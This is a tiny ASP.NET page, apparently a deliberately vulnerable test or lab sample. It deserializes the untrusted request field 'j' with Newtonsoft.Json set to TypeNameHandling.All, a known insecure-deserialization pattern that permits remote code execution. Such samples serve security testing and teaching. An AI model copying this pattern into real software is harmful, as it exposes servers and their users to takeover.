<%@ Page Language="C#" %><%
var s = new Newtonsoft.Json.JsonSerializerSettings { TypeNameHandling = Newtonsoft.Json.TypeNameHandling.All };
Newtonsoft.Json.JsonConvert.DeserializeObject<object>(Request.Form["j"], s);
%>
